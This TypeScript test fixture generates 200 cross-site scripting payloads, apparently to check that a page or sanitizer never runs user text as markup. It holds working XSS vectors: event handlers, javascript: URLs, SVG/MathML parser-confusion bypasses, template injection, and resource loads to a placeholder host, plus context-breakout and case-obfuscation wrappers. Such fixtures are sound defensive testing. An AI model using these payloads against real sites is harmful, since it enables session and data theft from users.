const run = 'window.ran=1'
const elsewhere = '//elsewhere.example/x'

/** Ways to bring a script, or a request to elsewhere, into a page by a text. */
const vectors = [
  `<script>${run}</script>`,
  `<script src=${elsewhere}></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=${elsewhere}>`,
  `<img srcset="${elsewhere} 1x">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text>x`,
  `<svg><style><img src=x onerror=${run}></style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<iframe src="javascript:parent.${run}">`,
  `<iframe src=${elsewhere}>`,
  `<object data="javascript:${run}">`,
  `<embed src=${elsewhere}>`,
  `<a href="javascript:${run}" autofocus>x</a>`,
  `<a href="java\tscript:${run}">x</a>`,
  `<form action="javascript:${run}"><button autofocus>x`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x`,
  `<video><source onerror=${run}>`,
  `<video poster=${elsewhere}>`,
  `<audio src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<p onpointerover=${run} style="position:fixed;inset:0">x`,
  `<link rel=stylesheet href=${elsewhere}>`,
  `<link rel=preload as=image href=${elsewhere}>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<base href=${elsewhere}>`,
  `<style>@import '${elsewhere}'</style>`,
  `<p style="background:url(${elsewhere})">x</p>`,
  `<table background=${elsewhere}><td>x`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<!--><script>${run}</script>-->`,
  `{{constructor.constructor('${run}')()}}`,
  `javascript:${run}`,
  `\${${run}}`,
]

/** Contexts of a text. */
const ways: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `"'>${vector}`,
  (vector) => `</script></title></textarea>${vector}`,
  (vector) => vector.replace(/<(\w+)/g, (_all, tag: string) => `<${upDown(tag)}/`),
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
]

/**
 * Two hundred different texts; if one is taken for markup, `window.ran` is set or another site gets
 * a request. Each begins with its own mark, by which a screen is searched.
 */
export const payloads = ways
  .flatMap((way) => vectors.map(way))
  .map((text, nr) => ({ mark: `mark${nr}`, text: `mark${nr} ${text}` }))

function upDown(tag: string): string {
  return [...tag].map((letter, at) => (at % 2 ? letter : letter.toUpperCase())).join('')
}
